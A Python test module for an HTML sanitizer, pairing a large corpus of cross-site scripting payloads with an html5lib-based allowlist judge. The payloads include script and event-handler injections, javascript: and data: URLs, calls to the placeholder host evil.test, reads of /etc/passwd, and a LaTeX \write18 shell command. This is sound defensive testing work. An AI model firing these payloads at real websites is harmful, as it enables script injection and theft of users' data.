"""Hostile strings and a judge: what a browser's parser makes of our output must be dead.

The judge reads HTML as browsers do (html5lib, the algorithm of the HTML standard) and allows what we write, nothing else.
"""

from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib

CODES = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "document.location='//evil.test'",
    "fetch('//evil.test')",
    "import('//evil.test')",
)
EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "onend", "onrepeat", "ontoggle", "onscroll"),
    *("onanimationstart", "onpointerenter", "onwheel", "oncut", "onpaste", "onbeforeinput", "onhashchange"),
)
TAGS = (
    *(
        "img src=x",
        "svg",
        "body",
        "iframe",
        "video src=x",
        "audio src=x",
        "input autofocus",
        "details open",
        "math",
        "marquee",
    ),
    *(
        "object data=x",
        "embed src=x",
        "style",
        "a href=x",
        "div tabindex=1",
        "select autofocus",
        "button",
        "form",
        "xss",
    ),
)
SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
    ),
    *("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "vbscript:msgbox(1)"),
    *(
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "blob:x",
        "file:///etc/passwd",
    ),
    *(
        "//evil.test/x",
        "http://evil.test/x.png",
        "\x01javascript:alert(1)",
        "javascript://%0aalert(1)",
        "feed:javascript:alert(1)",
    ),
)
HAND_MADE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.test></script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><image href='http://evil.test/x.png'/></svg>",
    "<svg><style>@import '//evil.test';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><maction actiontype='statusline#http://evil.test' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]><x>&e;</x>",
    "<?php echo 1 ?>",
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href='//evil.test/x.css'>",
    "<link rel=prefetch href='//evil.test/x'>",
    "<style>*{background:url(//evil.test)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>covered</p>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<img src=x onerror=alert(1)//",
    "<img src='x' onerror='alert(1)'",
    "<img/src=`x`onerror=alert(1)>",
    "<img srcset='http://evil.test/x 1x'>",
    "<img name=getElementById>",
    "<a id=location href=//evil.test>x</a><a id=location name=assign href=javascript:alert(1)>x</a>",
    "<form id=document><input name=cookie></form>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<input type=hidden accesskey=X onclick=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"/><svg/onload=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "<script\u2028>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](http://evil.test/x.png)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '[x](http://a.test/"onclick="alert(1))',
    "[a](http://a.test/'onclick='alert(1))",
    "<javascript:alert(1)>",
    "<http://evil.test/x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "[^1]: <img src=x onerror=alert(1)>\n\nx[^1]",
    'x[^"><script>alert(1)</script>]',
    "\\href{javascript:alert(1)}{x}",
    "\\url{javascript:alert(1)}",
    "\\includegraphics{http://evil.test/x.png}",
    "\\htmlData{onclick=alert(1)}{x}",
    '\\class{x" onclick="alert(1)}{y}',
    "\\cssId{x}{y}\\style{background:url(//evil.test)}{z}",
    "\\unicode{x3c}script\\unicode{x3e}",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\mbox{</math><script>alert(1)</script>}",
    '\\color{red" onclick="alert(1)}{x}',
    "\\colorbox{url(//evil.test)}{x}",
    "\\operatorname{<script>alert(1)</script>}",
    "\\tag{<script>alert(1)</script>}",
    '\\begin{array}{"onclick=alert(1)}a\\end{array}',
    "\\def\\x{<script>}\\x alert(1)",
    "\\verb|<script>alert(1)</script>|",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "\\special{html:<script>alert(1)</script>}",
    "\\pdfliteral{x}",
    "\\csname <script>\\endcsname",
    '\\multicolumn{2" onclick="alert(1)}{c}{x}',
    '\\multirow{2}{"onclick=alert(1)}{x}',
    '\\cline{1-2"onclick=alert(1)}',
    "fill=url(//evil.test)",
    'draw=red" onload="alert(1)',
    'pattern="><script>alert(1)</script>',
    "label=above:<script>alert(1)</script>",
    "font=\\input{/etc/passwd}",
    "x/.style={<script>}",
    "!!!OTL: <script>alert(1)</script>",
    "!LO:TX:t=<script>alert(1)</script>",
    "[C@@H](<script>)C",
    "C1CC1 onload=alert(1)",
    "CC<script>alert(1)</script>",
    '{"__proto__": {"x": 1}}',
    "function(){alert(1)}",
    "\\( [x](javascript:alert(1)) \\)",
    "$[x]: javascript:alert(1)$ and $[x]$",
    "$$\n[x]: javascript:alert(1)\n$$ [x][x]",
    "\\[ ![x](http://evil.test/x.png) \\]",
    "\\footnote{<script>alert(1)</script>}",
    "\\begin{lstlisting}<script>alert(1)</script>\\end{lstlisting}",
    "\\begin{figure}<img src=x onerror=alert(1)>\\caption{<svg onload=alert(1)>}\\end{figure}",
    "\\item[<script>alert(1)</script>]",
    '{"formatter": "function(){alert(1)}"}',
)


def payloads() -> list[str]:
    """Return all payloads: hand-made ones, every event on some tag, every tag with some event, every scheme in some place."""
    made = list(HAND_MADE)
    made += [f"<{TAGS[at % len(TAGS)]} {event}={CODES[at % len(CODES)]}>" for at, event in enumerate(EVENTS)]
    made += [f"<{tag} {EVENTS[at % len(EVENTS)]}='{CODES[at % len(CODES)]}'>x" for at, tag in enumerate(TAGS)]
    made += [f"</p></td></table></svg></math></title></style></pre>{text}" for text in HAND_MADE[:20]]
    made += [f"\"'>{text}" for text in HAND_MADE[:20]]
    for scheme in SCHEMES:
        made += [
            f'<a href="{scheme}">x</a>',
            f"[x]({scheme})",
            f"\\href{{{scheme}}}{{x}}",
            f"<img src='{scheme}'>",
            f"![]({scheme})",
        ]
    return list(dict.fromkeys(made))


def _names(text: str) -> frozenset[str]:
    return frozenset(text.split())


ELEMENTS = _names(
    """
    html head body meta title style script h1 h2 h3 h4 h5 h6 p div span a sup sub strong em u s code pre br hr ul
    ol li blockquote figure section table thead tbody tr th td header nav main article footer button img details
    summary math mrow mi mo mn mtext ms mspace msup msub msubsup munder mover munderover mfrac msqrt mroot mtable
    mtr mtd mstyle mpadded mphantom menclose mmultiscripts mprescripts merror none svg g path rect line polyline
    polygon ellipse circle text tspan defs use symbol clipPath pattern
    """
)
ATTRIBUTES = _names(
    """
    charset http-equiv content name lang class id href rel dir tabindex role aria-label aria-labelledby hidden
    type data-source data-render-error colspan rowspan scope value src alt display displaystyle scriptlevel
    mathvariant mathcolor mathbackground stretchy fence form separator accent accentunder movablelimits largeop
    symmetric minsize maxsize lspace rspace width height depth voffset linethickness columnalign rowalign
    columnspacing rowspacing columnlines rowlines columnspan rowspan notation linebreak bevelled viewBox x y x1 y1
    x2 y2 cx cy r rx ry dx dy d points transform preserveAspectRatio overflow fill fill-opacity fill-rule stroke
    stroke-width stroke-linecap stroke-linejoin stroke-dasharray stroke-opacity stroke-miterlimit opacity color
    font-size font-style font-weight font-family text-anchor dominant-baseline clip-path patternUnits xmlns
    """
)


def parse(html: str) -> Element:
    """Parse a document as a browser does."""
    tree: Element = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    return tree


def local(name: str) -> str:
    return name.rpartition("}")[2]


def faults(html: str) -> list[str]:
    """Name everything in the parsed document that is not plainly dead."""
    found = []
    for node in parse(html).iter():
        if not isinstance(node.tag, str):
            found.append("comment or instruction")
            continue
        tag = local(node.tag)
        if tag not in ELEMENTS:
            found.append(f"element {tag}")
        found += [
            f"{tag} {local(key)}={value[:60]}"
            for key, value in node.attrib.items()
            if not _harmless(tag, local(key), value)
        ]
    return found


def _harmless(tag: str, key: str, value: str) -> bool:
    if key not in ATTRIBUTES:
        return False
    if key == "href":
        if tag == "a":
            return value.startswith("#") or urlsplit(value).scheme in ("http", "https", "mailto")
        return tag == "use" and value.startswith("#")
    if key == "src":
        return tag == "img" and value.startswith(("data:image/png;base64,", "data:image/jpeg;base64,"))
    if key in ("aria-label", "alt", "content", "value"):
        return True  # words for people
    if "url(" in value.lower():
        return value.startswith("url(#") and key in ("clip-path", "fill")
    return True


def shape(node: Element) -> tuple[object, ...]:
    """Return the tree as comparable values."""
    name = local(node.tag) if isinstance(node.tag, str) else "?"
    return (
        name,
        sorted((local(k), v) for k, v in node.attrib.items()),
        node.text or "",
        node.tail or "",
        tuple(map(shape, node)),
    )


def written_again(html: str) -> str:
    """Serialise the parsed document as a browser would hand it on."""
    walker = html5lib.getTreeWalker("etree")
    serializer = html5lib.serializer.HTMLSerializer(
        omit_optional_tags=False, quote_attr_values="always", strip_whitespace=False
    )
    return "".join(serializer.serialize(walker(html5lib.parse(html, treebuilder="etree"))))
